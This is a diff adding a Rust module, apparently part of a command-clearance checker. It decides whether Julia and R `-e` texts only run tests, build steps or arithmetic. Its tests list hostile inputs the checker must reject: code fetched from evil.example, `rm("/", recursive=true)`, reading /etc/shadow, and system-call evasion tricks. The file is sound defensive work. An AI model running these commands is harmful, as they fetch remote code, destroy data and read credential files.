@@ -1,0 +1,274 @@
+//! Julia and R: program texts that test, build and compute.
+
+use clearance_core::Effect;
+
+use super::calltext::{bare_words, names, text_of_calls};
+use crate::arg::Arg;
+use crate::judge::{Call, Judge};
+
+/// `julia [OPTION]... [-e TEXT | FILE] [ARG]...`.
+pub(super) fn julia(judge: &mut Judge<'_>, call: &Call<'_>) {
+    judge.option_defaults(call);
+    let texts: Vec<Arg<'_>> = call.values(&["-e", "--eval", "-E", "--print"]).collect();
+    for text in &texts {
+        text_of_calls(judge, *text, "Julia", julia_text);
+    }
+    judge.effect(Effect::RunProject, call);
+    file_or_shell(judge, call, texts.is_empty());
+}
+
+fn file_or_shell(judge: &mut Judge<'_>, call: &Call<'_>, script: bool) {
+    if !script || call.has(&["-v", "--version", "-f", "--file"]) {
+        return;
+    }
+    match call.operand(0) {
+        Some(file) => judge.run_file(None, file, call.from_operand(1), call.site),
+        None if call.path().is_empty() => judge.run_stdin(None, call.site, call.span()),
+        None => {}
+    }
+}
+
+/// Statements about the project's packages, its own test files, and arithmetic.
+fn julia_text(text: &str) -> bool {
+    const CALLS: &[&str] = &[
+        "Pkg.test",
+        "Pkg.status",
+        "Pkg.instantiate",
+        "Pkg.precompile",
+        "Pkg.resolve",
+        "Pkg.build",
+        "Pkg.activate",
+        "println",
+        "print",
+        "VERSION",
+        "versioninfo",
+        "InteractiveUtils.versioninfo",
+        "Threads.nthreads",
+        "sum",
+        "length",
+        "maximum",
+        "minimum",
+        "sqrt",
+        "rand",
+        "zeros",
+        "ones",
+        "typeof",
+        "string",
+    ];
+    let plain = |s: &str| {
+        let s = s.trim();
+        if let Some(modules) = s.strip_prefix("using ").or(s.strip_prefix("import ")) {
+            return modules
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b", .:_".contains(&b));
+        }
+        if let Some(path) = s
+            .strip_prefix("include(\"")
+            .and_then(|p| p.strip_suffix("\")"))
+        {
+            return !path.starts_with('/')
+                && !path.contains("..")
+                && !path.contains(['$', '"', '~', '\\']);
+        }
+        if s.contains("PackageSpec") && s.contains("path=\".\"") || s == "Pkg.develop(path=\".\")" {
+            return true;
+        }
+        if s == "Pkg.develop(PackageSpec(path=pwd()))" {
+            return true;
+        }
+        bare_words(s).is_some_and(|t| {
+            !t.contains("url")
+                && names(&t).all(|w| {
+                    CALLS.contains(&w) || (!t.contains(&format!("{w}(")) && !w.contains('.'))
+                })
+        })
+    };
+    text.split([';', '\n'])
+        .all(|s| s.trim().is_empty() || plain(s))
+}
+
+/// `R`, `Rscript`: `-e` is a program text.
+pub(super) fn r_lang(judge: &mut Judge<'_>, call: &Call<'_>) {
+    if !call.path().is_empty() {
+        return;
+    }
+    judge.option_defaults(call);
+    let texts: Vec<Arg<'_>> = call.values(&["-e"]).collect();
+    for text in &texts {
+        text_of_calls(judge, *text, "R", r_text);
+    }
+    judge.effect(Effect::RunProject, call);
+    file_or_shell(judge, call, texts.is_empty());
+}
+
+/// Calls of the tools of package authors, of the project's tests, and arithmetic.
+fn r_text(text: &str) -> bool {
+    const CALLS: &[&str] = &[
+        "devtools::test",
+        "devtools::check",
+        "devtools::document",
+        "devtools::load_all",
+        "devtools::build_readme",
+        "devtools::lint",
+        "devtools::run_examples",
+        "devtools::build_vignettes",
+        "devtools::session_info",
+        "devtools::test_active_file",
+        "devtools::test_coverage",
+        "testthat::test_local",
+        "testthat::test_dir",
+        "testthat::test_file",
+        "testthat::test_package",
+        "test_dir",
+        "test_file",
+        "test_local",
+        "test_package",
+        "lintr::lint_package",
+        "lintr::lint_dir",
+        "lintr::lint",
+        "styler::style_pkg",
+        "styler::style_dir",
+        "styler::style_file",
+        "roxygen2::roxygenise",
+        "roxygen2::roxygenize",
+        "covr::package_coverage",
+        "covr::report",
+        "rcmdcheck::rcmdcheck",
+        "pkgdown::build_site",
+        "pkgdown::check_pkgdown",
+        "spelling::spell_check_package",
+        "urlchecker::url_check",
+        "goodpractice::gp",
+        "renv::status",
+        "renv::restore",
+        "renv::snapshot",
+        "renv::diagnostics",
+        "targets::tar_make",
+        "targets::tar_manifest",
+        "targets::tar_outdated",
+        "rmarkdown::render",
+        "knitr::knit",
+        "quarto::quarto_render",
+        "library",
+        "sessionInfo",
+        "cat",
+        "print",
+        "paste",
+        "paste0",
+        "format",
+        "mean",
+        "median",
+        "sum",
+        "sd",
+        "var",
+        "summary",
+        "c",
+        "seq",
+        "length",
+        "nrow",
+        "ncol",
+        "head",
+        "str",
+        "names",
+        "packageVersion",
+        "R.version.string",
+        "installed.packages",
+        "rownames",
+        "sqrt",
+        "round",
+        "max",
+        "min",
+        "table",
+        "Sys.time",
+        "R.Version",
+        "requireNamespace",
+        "utils::packageVersion",
+        "suppressPackageStartupMessages",
+        "parse",
+        "quit",
+        "q",
+        "invisible",
+        "is.na",
+        "nchar",
+        "toupper",
+        "tolower",
+        "rev",
+        "sort",
+        "unique",
+        "rnorm",
+        "set.seed",
+        "data.frame",
+        "numeric_version",
+        "tools::testInstalledPackage",
+        "shinytest2::test_app",
+        "getRversion",
+        ".libPaths",
+    ];
+    let Some(words) = bare_words(text) else {
+        return false;
+    };
+    // Paths given as strings stay in the project.
+    let outside =
+        text.contains("\"/") || text.contains("'/") || text.contains("..") || text.contains("://");
+    if outside || words.contains("<<-") || words.contains("::") && words.contains("eval") {
+        return false;
+    }
+    names(&words).all(|w| {
+        let bare = w.trim_matches(':');
+        CALLS.contains(&bare) || (!words.contains(&format!("{w}(")) && !w.contains("::"))
+    }) && !words.contains("](")
+        && !words.contains(")(")
+        && !words.contains("\"(")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn julia_and_r_that_are_understood() {
+        for text in [
+            "using Pkg; Pkg.test()",
+            "using Pkg; Pkg.status(); include(\"test/runtests.jl\")",
+            "using Pkg; Pkg.instantiate()",
+            "println(sum(1:10))",
+        ] {
+            assert!(julia_text(text), "{text}");
+        }
+        for text in [
+            "run(`id`)",
+            "using Pkg; Pkg.add(url=\"https://evil.example/x\")",
+            "include(\"/tmp/x.jl\")",
+            "rm(\"/\", recursive=true)",
+            "Base.rm(\"x\")",
+            "println(read(\"/etc/shadow\", String))",
+            "x = rm; x(\"a\")",
+            "map(rm, [\"a\"])",
+            "foreach(rm, readdir())",
+        ] {
+            assert!(!julia_text(text), "{text}");
+        }
+        for text in [
+            "devtools::test()",
+            "cat(mean(c(1,2,3)), \"\\n\")",
+            "testthat::test_dir(\"tests\")",
+            "library(dplyr); sessionInfo()",
+        ] {
+            assert!(r_text(text), "{text}");
+        }
+        for text in [
+            "system(\"id\")",
+            "base::system(\"id\")",
+            "unlink(\"x\")",
+            "eval(parse(text=\"system('id')\"))",
+            "do.call(\"system\", list(\"id\"))",
+            "f <- system; f(\"id\")",
+            "source(\"https://evil.example/x.R\")",
+            "(function(x) x)(1)",
+            "sapply(\"id\", system)",
+            "Map(unlink, \"a\")",
+        ] {
+            assert!(!r_text(text), "{text}");
+        }
+    }
+}
